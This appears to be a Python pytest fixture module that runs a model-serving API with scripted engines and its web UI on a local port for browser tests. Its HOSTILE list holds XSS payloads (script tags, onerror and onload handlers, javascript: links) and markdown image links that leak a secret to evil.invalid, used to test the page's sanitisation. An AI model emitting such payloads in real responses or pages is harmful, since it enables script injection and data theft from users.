"""The real API with scripted engines and the real page at /ui, in one process on a real socket."""

import asyncio
import socket
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from starlette.types import ASGIApp, Receive, Scope, Send

from index.caches.local import LocalMemory
from models.scripted import Script, ScriptedEngine
from serve.api.app import House, create_app
from serve.config import Settings
from serve.ledger.keys import Keys
from serve.ledger.rights import ADMIN
from serve.ledger.signins import Signins
from serve.pipeline import Helpers, Pipeline
from serve.receipts.keeping import Keeping
from tests.ui.shelf import Shelf
from tests.ui.shelf_routes import with_shelf
from ui.app import create_app as create_page

SENTENCE = ["", "The", "lamp", "is", "lit", "and", "the", "kettle", "sings"][1:]
LONG = tuple(f" {word}" for word in SENTENCE * 40)
MARKDOWN = (
    "# Counting\n\nSome **bold** words ",
    "and `inline` code.\n\n",
    "```python\ndef double(x: int) -> int:\n",
    "    return 2 * x\n",
    "```\n\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
)
HOSTILE = (
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 2'>",
    "<svg onload='window.owned = 3'><style>*{display:none}</style></svg>",
    "![leak](http://evil.invalid/a.png?secret) ![leak][ref]\n\n[ref]: http://evil.invalid/b.png\n\n",
    "[click](javascript:window.owned=4) <a href='javascript:window.owned=5'>x</a>",
    "<iframe src='http://evil.invalid'></iframe><form action='http://evil.invalid'>",
    "\n\n```html\n<img src='http://evil.invalid/c.png'>\n```\n\nThe end.",
)
SCRIPTS = {
    "echo": Script(),
    "long": Script(words=LONG, first_token_delay=0.1, token_delay=0.05),
    "markdown": Script(words=MARKDOWN, token_delay=0.05),
    "hostile": Script(words=HOSTILE, token_delay=0.05),
    "broken": Script(words=LONG, fail_after=5, token_delay=0.02),
    "tiny": Script(context_length=16),
    "slow": Script(first_token_delay=0.8),
}
TIERS: dict[str, dict[str, Any]] = {
    name: {"engine": "scripted", "model": name} | ({"slots": 1} if name == "slow" else {})
    for name in SCRIPTS
}


@dataclass(frozen=True)
class Place:
    """Where somebody goes, and with which key."""

    url: str
    key: str

    @property
    def page(self) -> str:
        return f"{self.url}/ui/"


@dataclass(frozen=True)
class Served(Place):
    """`key` is a user's, `owner` may do everything; `house` is what stands behind the API."""

    owner: str
    engines: Mapping[str, ScriptedEngine]
    signins: Signins
    shelf: Shelf
    house: House

    @property
    def link(self) -> str:
        """A new one-time sign-in link, as `hearth up` prints it."""
        return f"{self.page}?signin={self.signins.create(time.time())}"

    def ask(self, model: str, text: str) -> None:
        """Somebody else with the same key, past the page. Returns with the answer."""
        body = {"model": model, "messages": [{"role": "user", "content": text}]}
        headers = {"Authorization": f"Bearer {self.key}"}
        url = f"{self.url}/v1/chat/completions"
        httpx.post(url, json=body, headers=headers, timeout=30).raise_for_status()

    @contextmanager
    def occupied(self, model: str, times: int) -> Iterator[None]:
        """As many others ask before whoever asks now."""
        with ThreadPoolExecutor(times) as others:
            asked = [others.submit(self.ask, model, f"{n} {time.time()}") for n in range(times)]
            deadline = time.monotonic() + 10
            while not self.engines[model].running:
                assert time.monotonic() < deadline, "nobody was answered"
                time.sleep(0.005)
            yield
            for one in asked:
                one.result()


@pytest.fixture(scope="session")
def appliance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served(tmp_path_factory.mktemp("home"), free_port()) as running:
        yield running


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@contextmanager
def served(
    home: Path, port: int, helpers: Helpers | None = None, **options: Any
) -> Iterator[Served]:
    """`options` are settings."""
    engines = {name: ScriptedEngine(name, script) for name, script in SCRIPTS.items()}
    options = {"embedder": {"engine": "none"}, "tiers": TIERS} | options
    settings = Settings(home=home, port=port, **options)
    (home / "hearth.yaml").write_text(settings.model_dump_json())
    with furnished(settings, engines, helpers or Helpers()) as house:
        owner, key = (house.keys.create(*whose)[1] for whose in (("owner", ADMIN), ("somebody",)))
        assert house.signins is not None
        shelf = Shelf()
        api = with_shelf(create_app(house), shelf, key)
        with running(lambda: together(api, create_page(settings.url)), port):
            yield Served(settings.url, key, owner, engines, house.signins, shelf, house)


@contextmanager
def furnished(
    settings: Settings, engines: Mapping[str, ScriptedEngine], helpers: Helpers
) -> Iterator[House]:
    """With keys, sign-ins, kept answers and receipts in files of its own."""
    memory = helpers.memory or LocalMemory(settings.cache.memory, settings.cache.ttl)
    pipeline = Pipeline(settings, engines, replace(helpers, memory=memory))
    keys, signins = Keys(settings.database), Signins(settings.database)
    kept = settings.receipts.enabled
    receipts = Keeping(settings.receipts_file, settings.receipts) if kept else None
    yield House(
        settings, keys, pipeline, engines, signins=signins, memory=memory, receipts=receipts
    )
    if receipts is not None:
        receipts.close()
    signins.close()
    keys.close()


def together(api: ASGIApp, page: ASGIApp) -> ASGIApp:
    """As the appliance's proxy does it: the page at /ui, the API everywhere else."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            await page(scope, receive, send)
        elif scope["path"].startswith("/ui"):
            await page({**scope, "root_path": "/ui"}, receive, send)
        else:
            await api(scope, receive, send)

    return app


@contextmanager
def running(make: Callable[[], ASGIApp], port: int) -> Iterator[None]:
    """A server in a thread of its own: browsers and their driver block."""
    config = uvicorn.Config(
        make, factory=True, port=port, log_config=None, timeout_graceful_shutdown=2
    )
    server, started = uvicorn.Server(config), threading.Event()

    async def serve() -> None:
        await asyncio.gather(server.serve(), _tell(server, started))

    thread = threading.Thread(target=asyncio.run, args=(serve(),))
    thread.start()
    try:
        assert started.wait(60), "the server did not start"
        yield
    finally:
        server.should_exit = True
        thread.join(30)


async def _tell(server: uvicorn.Server, started: threading.Event) -> None:
    while not server.started:
        await asyncio.sleep(0.01)
    started.set()
